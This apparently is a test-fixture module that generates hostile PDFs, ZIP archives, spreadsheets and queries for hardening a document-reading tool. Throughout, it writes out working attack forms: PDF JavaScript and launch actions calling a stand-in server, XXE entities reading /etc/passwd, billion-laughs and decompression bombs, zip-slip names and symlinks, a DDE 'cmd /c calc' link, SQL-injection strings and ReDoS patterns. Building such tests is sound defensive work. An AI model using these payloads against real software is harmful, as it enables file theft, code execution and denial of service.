// Files made to harm their reader: PDFs, archives, workbooks, tables and JSON. Each entry is a name, what to do with it, and what the
// answer has to be. `CANARY` in a text is replaced by the URL of a server that must not be asked anything.
import { deflateSync } from 'node:zlib';
import { docx, paragraph, xlsx, zip } from './documents.mjs';
import { pdfOf } from '../../../.ci/made-files.mjs';

const MIB = 2 ** 20;

// ---------------------------------------------------------------- PDFs

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const stream = (content, more = '') => `<< /Length ${content.length} ${more} >>\nstream\n${content}\nendstream`;
const flate = (content, times = 1) => {
  let packed = Buffer.from(content, 'latin1');
  for (let n = 0; n < times; n += 1) packed = deflateSync(packed, { level: 9 });
  return stream(packed.toString('latin1'), `/Filter [${'/FlateDecode '.repeat(times)}]`);
};
const TEXT = 'BT /F1 12 Tf 60 700 Td (Turbine) Tj ET';
/** One page: `content` is the object of its stream (5), `font` that of its font (3), `more` further objects from 6 on. */
const onePage = ({ content = stream(TEXT), font = FONT, catalog = '', pages = '/Kids [4 0 R] /Count 1', page = '', resources = '', more = [] } = {}) => pdfOf([
  `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, `<< /Type /Pages ${pages} >>`, font,
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> ${resources} >> /Contents 5 0 R ${page} >>`,
  content, ...more,
]);
const at = (bytes, from, to) => Buffer.from(bytes.toString('latin1').replace(from, to), 'latin1');
/** A form that draws others. */
const form = (draws, names) => stream(names.map((name) => `/${name} Do `.repeat(draws)).join(''), `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << ${names.map((name) => `/${name} ${name.slice(1)} 0 R`).join(' ')} >> >>`);
const cmap = (lines) => stream(`/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n${lines}\nendcmap`);
const mapped = (lines) => onePage({ font: '<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 >> >>] /ToUnicode 6 0 R >>', more: [cmap(lines)] });

export const PDFS = {
  'kid-of-itself': onePage({ pages: '/Kids [2 0 R 4 0 R] /Count 2' }),
  'kids-in-a-circle': onePage({ pages: '/Kids [6 0 R] /Count 1', more: ['<< /Type /Pages /Parent 2 0 R /Kids [7 0 R] /Count 1 >>', '<< /Type /Pages /Parent 6 0 R /Kids [6 0 R] /Count 1 >>'] }),
  'parent-of-itself': onePage({ pages: '/Parent 2 0 R /Kids [4 0 R] /Count 1' }),
  'two-thousand-million-pages': onePage({ pages: '/Kids [4 0 R] /Count 2000000000' }),
  'pages-less-than-none': onePage({ pages: '/Kids [4 0 R] /Count -5' }),
  'xref-of-itself': at(onePage(), /\/Root 1 0 R >>\nstartxref\n(\d+)/, '/Root 1 0 R /Prev $1 >>\nstartxref\n$1'),
  'xref-of-a-million': at(onePage(), /xref\n0 6\n/, 'xref\n0 999999999\n'),
  'length-of-itself': onePage({ content: `<< /Length 5 0 R >>\nstream\n${TEXT}\nendstream` }),
  'nested-arrays': onePage({ catalog: `/Deep ${'['.repeat(200_000)}${']'.repeat(200_000)}`, content: stream(`${'['.repeat(200_000)}${TEXT}`) }),
  'nested-dictionaries': onePage({ page: `/Deep ${'<< /A '.repeat(100_000)} 1 ${'>>'.repeat(100_000)}` }),
  'packed-spaces': onePage({ content: flate(`${' '.repeat(60 * MIB)}${TEXT}`) }),
  'packed-three-times': onePage({ content: flate(`${' '.repeat(60 * MIB)}${TEXT}`, 3) }),
  'packed-text': onePage({ content: flate(`BT /F1 12 Tf ${'1 0 0 1 60 700 Tm (Turbine runs) Tj '.repeat(3_000_000)} ET`) }),
  'filters': onePage({ content: stream(Buffer.from(TEXT).toString('hex'), `/Filter [${'/ASCIIHexDecode '.repeat(20_000)}]`) }),
  'forms-of-forms': onePage({ content: stream(`/X6 Do ${TEXT}`), resources: '/XObject << /X6 6 0 R >>', more: Array.from({ length: 10 }, (_, n) => (n < 9 ? form(10, [`X${n + 7}`]) : stream(TEXT, '/Type /XObject /Subtype /Form /BBox [0 0 9 9]'))) }),
  'form-of-itself': onePage({ content: stream(`/X6 Do ${TEXT}`), resources: '/XObject << /X6 6 0 R >>', more: [form(3, ['X6'])] }),
  'map-of-everything': mapped('100 beginbfrange\n'.concat('<00000000> <FFFFFFFF> <0041>\n'.repeat(100), 'endbfrange')),
  'huge-picture': onePage({ content: stream(`q 9 0 0 9 0 0 cm /X6 Do Q ${TEXT}`), resources: '/XObject << /X6 6 0 R >>', more: [stream('x', '/Type /XObject /Subtype /Image /Width 200000 /Height 200000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode')] }),
  'huge-page': at(onePage(), '[0 0 612 792]', '[-1e38 -1e38 1e38 1e38]'),
  'huge-font': onePage({ content: stream('BT /F1 1e38 Tf 1e38 0 0 1e38 0 0 Tm (Turbine) Tj -1e38 Tz (A) Tj ET') }),
  'scripts-and-addresses': onePage({
    catalog: '/OpenAction << /S /JavaScript /JS (app.launchURL("CANARY/js"); this.submitForm("CANARY/js2"); fetch("CANARY/js3")) >> /AA << /WC << /S /URI /URI (CANARY/uri) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /FS /URL /EF << /F 6 0 R >> >>] >> >> /AcroForm << /XFA 7 0 R /Fields [8 0 R] >>',
    page: '/AA << /O << /S /Launch /F (CANARY/launch) >> >> /Annots [8 0 R << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (CANARY/link) >> >> << /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (a field) /Rect [0 0 9 9] /AA << /K << /S /JavaScript /JS (fetch("CANARY/key")) >> >> >>]',
    more: [stream('MZ'), stream('<!DOCTYPE x [<!ENTITY e SYSTEM "CANARY/xfa">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'), '<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 9 9] /A << /S /SubmitForm /F << /FS /URL /F (CANARY/submit) >> >> >>'],
  }),
  'content-elsewhere': onePage({ content: '<< /Length 0 /F << /FS /URL /F (CANARY/content) >> /FFilter /FlateDecode >>\nstream\n\nendstream' }),
};


// ---------------------------------------------------------------- archives

const LOCAL = 'PK\x03\x04', CENTRAL = 'PK\x01\x02', END = 'PK\x05\x06';
/** The same archive with its list changed: `change(entry, n, whole)` may write into each entry, `end` into the end record. */
export function relisted(archive, change = () => {}, end = () => {}) {
  const copy = Buffer.from(archive);
  let n = 0;
  for (let from = copy.indexOf(CENTRAL, 0, 'latin1'); from >= 0; from = copy.indexOf(CENTRAL, from + 46, 'latin1')) {
    change(copy.subarray(from), n, copy);
    n += 1;
  }
  end(copy.subarray(copy.lastIndexOf(END, undefined, 'latin1')));
  return copy;
}
/** Fields of an entry of the list. */
const METHOD = 10, PACKED = 20, SIZE = 24, ATTRIBUTES = 38, PLACE = 42;
const FILES = [['a.txt', 'Turbine'], ['b.txt', 'Lamp']];
const NAMES = ['../../up.txt', '/etc/passwd', 'C:\\windows\\a.txt', '..\\..\\back.txt', 'a/./../../b.txt', '\u202etxt.exe', `${'d/'.repeat(3_000)}deep.txt`, 'nul\0.txt', 'x'.repeat(60_000), 'same.txt', 'same.txt', '__proto__', 'constructor', '<img src=CANARY onerror=alert(1)>.txt', '.git/config', 'con.txt', '.'];
/** So many entries with names of their own, all of the same file of a megabyte. */
const overlapping = (count) => {
  const one = zip([['00000.txt', 'a'.repeat(MIB)]]);
  const start = one.indexOf(CENTRAL, 0, 'latin1');
  const entry = one.subarray(start, one.lastIndexOf(END, undefined, 'latin1'));
  const end = Buffer.from(one.subarray(one.lastIndexOf(END, undefined, 'latin1')));
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(entry.length * count, 12);
  const entries = Array.from({ length: count }, (_, n) => Buffer.concat([entry.subarray(0, 46), Buffer.from(`${String(n).padStart(5, '0')}.txt`), entry.subarray(55)]));
  return Buffer.concat([one.subarray(0, start), ...entries, end]);
};
let nested = zip([['deepest.txt', 'x']]);
for (let n = 0; n < 50; n += 1) nested = zip([[`${n}.zip`, nested]]);

// What each is answered with is in tests/e2e/hostile.test.mjs.
export const ARCHIVES = {
  'names.zip': zip(NAMES.map((name, n) => [name, `file ${n}`])),
  'links.zip': relisted(zip([['link', '/etc/passwd'], ['b.txt', 'Lamp']]), (entry) => { entry[5] = 3; entry.writeUInt32LE(0xa1ff0000, ATTRIBUTES); }),
  'nested.zip': nested,
  'overlapping.zip': overlapping(400),
  'overlapping-more.zip': overlapping(600),
  'many.zip': overlapping(65_534),
  'says-64-bit.zip': relisted(zip(FILES), undefined, (end) => { end.writeUInt16LE(0xffff, 8); end.writeUInt16LE(0xffff, 10); }),
  'says-much.zip': relisted(zip(FILES), (entry) => entry.writeUInt32LE(0xfffffff0, SIZE)),
  'says-little.zip': relisted(zip([['a.txt', 'a'.repeat(4 * MIB)]]), (entry) => entry.writeUInt32LE(1, SIZE)),
  'says-more.zip': relisted(zip(FILES), (entry) => entry.writeUInt32LE(1_000, SIZE)),
  'not-packed-and-larger.zip': relisted(zip([['a.txt', 'a'.repeat(MIB)], ['b.txt', 'b']]), (entry, n, whole) => { entry.writeUInt16LE(0, METHOD); entry.writeUInt32LE(whole.length, PACKED); entry.writeUInt32LE(0, SIZE); }),
  'list-elsewhere.zip': relisted(zip(FILES), undefined, (end) => end.writeUInt32LE(3, 16)),
  'list-cut.zip': relisted(zip(FILES), undefined, (end) => { end.writeUInt32LE(end.readUInt32LE(12) - 51, 12); }),
  'list-is-file.zip': relisted(zip(FILES), (entry) => entry.writeUInt32LE(0xffffff0, PLACE)),
  'no-list.zip': relisted(zip(FILES), undefined, (end) => { end.writeUInt16LE(0, 8); end.writeUInt16LE(0, 10); end.writeUInt32LE(0, 12); }),
};

// ---------------------------------------------------------------- workbooks

const GOOD_SHEET = [['Item', 'Price'], ['Turbine', 900]];
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const sheet = (rows, { before = '', dimension = '', after = '' } = {}) => `<?xml version="1.0"?>${before}<worksheet xmlns="${MAIN}">${dimension}<sheetData>${rows}</sheetData>${after}</worksheet>`;
const strings = (items, more = '') => `<sst xmlns="${MAIN}" ${more}>${items}</sst>`;
const WITH_STRINGS = { 'xl/_rels/workbook.xml.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>' };
const sharing = (rows, shared, more = {}) => xlsx({ S: rows }, { ...WITH_STRINGS, 'xl/sharedStrings.xml': shared, ...more });
const one = (xml) => xlsx({ S: GOOD_SHEET }, { 'xl/worksheets/sheet1.xml': xml });
const cell = (at, value, more = '') => `<c r="${at}" ${more}><v>${value}</v></c>`;
const ods = (content) => zip([['mimetype', 'application/vnd.oasis.opendocument.spreadsheet'], ['META-INF/manifest.xml', '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'], ['content.xml', content]]);
const table = (rows, before = '') => `<?xml version="1.0"?>${before}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="S">${rows}</table:table></office:spreadsheet></office:body></office:document-content>`;
const odsCell = (value, more = '') => `<table:table-cell office:value-type="float" office:value="${value}" ${more}><text:p>${value}</text:p></table:table-cell>`;
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "lol">${Array.from({ length: 12 }, (_, n) => `<!ENTITY a${n} "${`&a${n ? n - 1 : ''};`.repeat(10)}">`).join('')}<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "CANARY/entity"><!ENTITY % more SYSTEM "CANARY/dtd"> %more;]>`;
/** An old office file: a header of the compound format, whose allocation table is a circle. */
const circle = () => {
  const file = Buffer.alloc(512 * 6, 0xff);
  file.fill(0, 0, 512);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file);
  file.writeUInt16LE(0x3e, 24); file.writeUInt16LE(3, 26); file.writeUInt16LE(0xfffe, 28); file.writeUInt16LE(9, 30); file.writeUInt16LE(6, 32);
  file.writeUInt32LE(1, 44); file.writeUInt32LE(1, 48); file.writeUInt32LE(4096, 56); file.writeUInt32LE(0xfffffffe, 60); file.writeUInt32LE(0xfffffffe, 68);
  file.fill(0xff, 76, 512);
  file.writeUInt32LE(0, 76);
  for (let n = 0; n < 128; n += 1) file.writeUInt32LE(n === 0 ? 0xfffffffd : n === 1 ? 2 : n === 2 ? 1 : 3, 512 + 4 * n);
  const entry = (place, name, kind, start, size) => {
    file.fill(0, place, place + 128);
    Buffer.from(name, 'utf16le').copy(file, place);
    file.writeUInt16LE(2 * name.length + 2, place + 64); file[place + 66] = kind; file.fill(0xff, place + 68, place + 80);
    file.writeUInt32LE(start, place + 116); file.writeUInt32LE(size, place + 120);
  };
  entry(1024, 'Root Entry', 5, 0xfffffffe, 0);
  file.writeUInt32LE(1, 1024 + 76);
  entry(1024 + 128, 'Workbook', 2, 3, 0x7fffffff);
  return file;
};

export const WORKBOOKS = {
  'one-string-in-all-cells.xlsx': sharing(Array.from({ length: 3_000 }, (_, r) => `<row r="${r + 1}">${Array.from({ length: 10 }, (_, c) => cell(`${String.fromCharCode(65 + c)}${r + 1}`, 0, 't="s"')).join('')}</row>`).join(''), strings(`<si><t>${'x'.repeat(MIB)}</t></si>`)),
  'strings-by-the-thousand-million.xlsx': sharing(`<row r="1">${cell('A1', 0, 't="s"')}${cell('B1', 4294967295, 't="s"')}</row>`, strings('<si><t>Turbine</t></si>', 'count="4294967295" uniqueCount="4294967295"')),
  'many-strings.xlsx': sharing(`<row r="1">${cell('A1', 0, 't="s"')}</row>`, strings('<si><t/></si>'.repeat(4_000_000))),
  'entities.xlsx': one(sheet(`<row r="1"><c r="A1" t="inlineStr"><is><t>&a11; &file; &net;</t></is></c>${cell('B1', 7)}</row>`, { before: LAUGHS })),
  'entities-of-strings.xlsx': sharing(`<row r="1">${cell('A1', 0, 't="s"')}</row>`, `${LAUGHS}${strings('<si><t>&a11; &net;</t></si>')}`),
  'dimension.xlsx': one(sheet(`<row r="1">${cell('A1', 'Turbine', 't="str"')}</row>`, { dimension: '<dimension ref="A1:XFD1048576"/>' })),
  'dimension-is-wrong.xlsx': one(sheet(`<row r="1">${cell('A1', 7)}</row>`, { dimension: '<dimension ref="ZZZZZZZZZZZZ99999999999999999999:A0"/>' })),
  'corners-of-many-sheets.xlsx': xlsx(Object.fromEntries(Array.from({ length: 200 }, (_, n) => [`S${n}`, `<row r="1">${cell('A1', 1)}</row><row r="1048576">${cell('XFD1048576', 2)}</row>`]))),
  'far-away.xlsx': one(sheet(`<row r="99999999999999999999">${cell('ZZZZZZZZZZZZZZ99999999999999999999', 1)}</row><row r="-1">${cell('A-1', 1)}</row>`)),
  'merged.xlsx': one(sheet(`<row r="1">${cell('A1', 'Turbine', 't="str"')}</row>`, { after: `<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(100_000)}</mergeCells>` })),
  'formulas-in-a-circle.xlsx': one(sheet(`<row r="1"><c r="A1"><f>B1</f><v>1</v></c><c r="B1"><f t="shared" ref="A1:XFD1048576" si="0">A1+WEBSERVICE("CANARY/formula")</f><v>2</v></c><c r="C1"><f t="array" ref="A1:XFD1048576">ROW(A1:XFD1048576)</f><v>3</v></c></row>`)),
  'links-to-others.xlsx': xlsx({ S: GOOD_SHEET }, {
    'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${MAIN}"><externalBook xmlns:r="x" r:id="rId1"/><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
    'xl/externalLinks/_rels/externalLink1.xml.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x" Target="CANARY/book.xlsx" TargetMode="External"/></Relationships>',
  }),
  'sheet-elsewhere.xlsx': xlsx({ S: GOOD_SHEET }, { 'xl/_rels/workbook.xml.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="CANARY/sheet.xml" TargetMode="External"/></Relationships>' }),
  'sheet-is-the-workbook.xlsx': xlsx({ S: GOOD_SHEET }, { 'xl/_rels/workbook.xml.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="workbook.xml"/></Relationships>' }),
  'no-sheet.xlsx': xlsx({ S: GOOD_SHEET }, { 'xl/worksheets/sheet1.xml': null }),
  'not-xml.xlsx': one(Buffer.alloc(100_000, 0xfe)),
  'deep.xlsx': one(sheet(`${'<row><c>'.repeat(200_000)}`)),
  'many-sheets.xlsx': xlsx({}, { 'xl/workbook.xml': `<workbook xmlns="${MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${'<sheet name="S" sheetId="1" r:id="rId1"/>'.repeat(20_000)}</sheets></workbook>`, 'xl/_rels/workbook.xml.rels': WITH_STRINGS['xl/_rels/workbook.xml.rels'], 'xl/worksheets/sheet1.xml': sheet(`<row r="1">${cell('A1', 1)}</row>`.repeat(2_000)) }),
  'repeated.ods': ods(table(`<table:table-row table:number-rows-repeated="1048576">${odsCell(7, 'table:number-columns-repeated="16384"')}</table:table-row>`)),
  'repeated-beyond.ods': ods(table(`<table:table-row table:number-rows-repeated="4294967295">${odsCell(7, 'table:number-columns-repeated="18446744073709551615"')}</table:table-row>`)),
  'repeated-empty.ods': ods(table(`<table:table-row table:number-rows-repeated="1048575"><table:table-cell table:number-columns-repeated="16384"/></table:table-row><table:table-row><table:table-cell table:number-columns-repeated="16383"/>${odsCell(7)}</table:table-row>`)),
  'entities.ods': ods(table(`<table:table-row>${odsCell(7)}<table:table-cell office:value-type="string"><text:p>&a11; &net;</text:p></table:table-cell></table:table-row>`, LAUGHS)),
  'circle.xls': circle(),
};

// ---------------------------------------------------------------- queries

const ROWS = 3_000;
/** The files that the queries run over. */
export const QUERIED = {
  't.csv': `n,name\n${Array.from({ length: ROWS }, (_, n) => `${n},x`).join('\n')}\n`,
  'names.json': '[{"__proto__":1,"constructor":2,"toString":{"valueOf":3},"hasOwnProperty":null}]',
  'deep.json': `[{"a":${'['.repeat(150_000)}${']'.repeat(150_000)}}]`,
  'quotes.csv': '"a""; DROP TABLE t; --","<img src=x onerror=alert(1)>"\n1,2\n',
  'one.json': '[1,{"a":2}]',
};
const times = (n, text) => text.repeat(n);
const TABLE_AGAIN = ['query_table', { sql: 'SELECT count(*) AS n, max(n) AS m FROM t' }, `| n | m |\n| --- | --- |\n| ${ROWS} | ${ROWS - 1} |\n[1 row]`];
const JSON_AGAIN = ['query_json', { path: 'one.json', filter: '.[1].a' }, '2\n[1 result]'];
const sql = (text, expect) => [['query_table', { sql: text }, expect], TABLE_AGAIN];
const jq = (filter, expect, path = 'one.json') => [['query_json', { path, filter }, expect], JSON_AGAIN];
const sum = (expression, expect) => [['calculate', { expression }, expect], ['calculate', { expression: '6 * 7' }, '42']];

// Those that a machine may reach before their end are ended by the deadline or by their memory, whichever comes first.
const ENDED = /^Error: (timeout: the tool did not answer within|the (query|filter) was ended|the query needs more than|string or blob too big|out of memory)/;
const LONG = /^Error: invalid arguments: at `\/(sql|filter|expression)`/;

export const SQL = [
  sql('SELECT count(*) FROM t a, t b, t c, t d', ENDED),
  sql("SELECT printf('%.40000c', 'a') LIKE '%a%a%a%a%a%a%a%a%a%b'", /\| 0 \|\n\[1 row\]$|^Error: timeout/),
  sql("SELECT length(replace(hex(zeroblob(20000000)), '0', hex(zeroblob(1000))))", ENDED),
  sql("SELECT printf('%*d', 2000000000, 1)", /^Error: string or blob too big$/),
  sql(`SELECT ${times(900, '(SELECT ')}1${times(900, ')')}`, /^Error: Recursion limit$/),
  sql(`SELECT ${times(4_000, 'NOT ')}1`, /^Error: /),
  sql(`SELECT ${times(20_000, 'NOT ')}1`, LONG),
  sql(`SELECT * FROM ${Array.from({ length: 70 }, (_, n) => `t AS t${n}`).join(', ')}`, /^Error: at most 64 tables in a join$/),
  sql(`SELECT ${Array.from({ length: 3_000 }, (_, n) => n).join(', ')}`, /^Error: too many columns in result set$/),
  sql(`SELECT 1${times(900, ' UNION ALL SELECT 1')}`, /^Error: too many terms|\[rows 1-100 of 901/),
  sql(`WITH ${Array.from({ length: 40 }, (_, n) => `c${n + 1}(x) AS (SELECT a.x FROM c${n} a, c${n} b)`).join(', ').replace('c1(x)', 'c0(x) AS (VALUES (1), (2)), c1(x)')} SELECT count(*) FROM c40`, /^Error: VIEWs and\/or subqueries nested too deep$/),
  sql("SELECT json_extract(printf('%.900000c', '['), '$')", /^Error: malformed JSON$/),
  sql('SELECT a FROM "deep"', ENDED),
  sql('SELECT * FROM "names"', /^\| __proto__ \| constructor \| toString \| hasOwnProperty \|\n\| --- \| --- \| --- \| --- \|\n\| 1 \| 2 \| \{"valueOf":3\} \| null \|/),
  sql('SELECT * FROM "quotes"', /^\| a"; DROP TABLE t; -- \| <img/),
  sql('SELECT * FROM "t""; DROP TABLE t; --"', /^Error: there is no table t"; DROP TABLE t; --\./),
  sql('SELECT * FROM dbstat', /^Error: there is no table dbstat\./),
  sql("SELECT fts3_tokenizer('simple')", /\| null \|\n\[1 row\]$/),
  sql(`${times(4_000, '/**/')}SELECT 1 AS n`, /^\| n \|/),
];

export const JQ = [
  jq('repeat(1)', /\n\[results 1-100 of more than 1,000,000; /), jq('[repeat(1)] | length', ENDED), jq('last(range(1e18))', ENDED), jq('[range(1e18)]', ENDED), jq('reduce range(60) as $i ("x"; . + .) | length', ENDED),
  jq('reduce range(64) as $i (2; . * .) | tostring | length', ENDED), jq('reduce range(1000000) as $i (null; [.])', ENDED), jq('[limit(100000; repeat(1))] | reduce .[] as $i (null; {a: .}) | tojson | length', ENDED),
  jq('.[1e9] = 1', /^Error: the filter failed: cannot use 1e9/), jq('setpath([1000000000]; 1) | length', /^Error: the filter failed: .*out of bounds/), jq('"x" | gsub(""; "y")', /^"yxy"\n/), jq('"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab" | test("^(a+)+$")', /^false\n/),
  jq('"a" | test("(((a{1,1000}){1,1000}){1,1000}){1,1000}")', /^Error: the filter failed: .*exceeded size limit/), jq('[1114112, -1] | implode', /^Error: the filter failed: .*as character/), jq('1e18 | todate', /^Error: the filter failed: .*not in the required range/), jq('1e1000, nan, infinite', /^1e1000\nnull\n1\.797/),
  ...['input', '[inputs]', '$ENV', 'env.PATH', 'input_filename'].map((filter) => jq(filter, /^Error: the filter is wrong at line 1, column [12]: there is no /)),
  jq('include "CANARY/x"; .', /^Error: the filter imports a module; there are none here$/), jq('import "/etc/passwd" as $x; $x', /^Error: the filter /), jq('"x" | debug | stderr', /^"x"\n\[1 result\]$/), jq('.[1] | .__proto__, .constructor', /^null\nnull\n/),
  jq(`${times(4_000, '.|')}.`, /^Error: the filter |^\[1,/), jq(`${times(9_000, '-')}1`, /^Error: /), jq(`${times(900, 'if . then ')}1`, /^Error: the filter /), jq(`${times(60_000, '.|')}.`, LONG), jq(`"${times(60, '\\("')}${times(60, '")')}"`, /^""\n/), jq('.', /^Error: deep\.json: the JSON is nested deeper than 256 levels$/, 'deep.json'),
];

export const SUMS = [
  sum('9^9^9^9^9', ENDED), sum('1/3 to 1000000000 dp', ENDED), sum(`${times(900, '-')}1`, /./), sum(`${times(450, '2^')}2`, /./), sum(times(20_000, '1+'), LONG),
  // fend has functions: one that calls itself without end.
  sum('(\\x. x x) (\\x. x x)', /^Error: the tool worker crashed/), sum(times(240, 'sin '), /^Error: /), sum('[[[[', /^Error: cannot evaluate/),
];
